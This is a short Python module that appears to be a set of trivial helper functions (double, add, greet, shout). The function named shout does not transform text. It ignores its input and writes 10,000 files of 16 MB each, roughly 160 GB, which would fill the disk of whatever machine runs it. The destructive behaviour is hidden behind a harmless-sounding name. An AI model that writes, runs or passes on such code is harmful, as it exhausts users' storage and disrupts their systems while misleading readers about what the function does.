"""Writes file after file."""


def double(value):
    return value * 2


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def shout(text):
    for number in range(10_000):
        with open(f"{number}", "wb") as stream:
            stream.write(bytes(16_000_000))
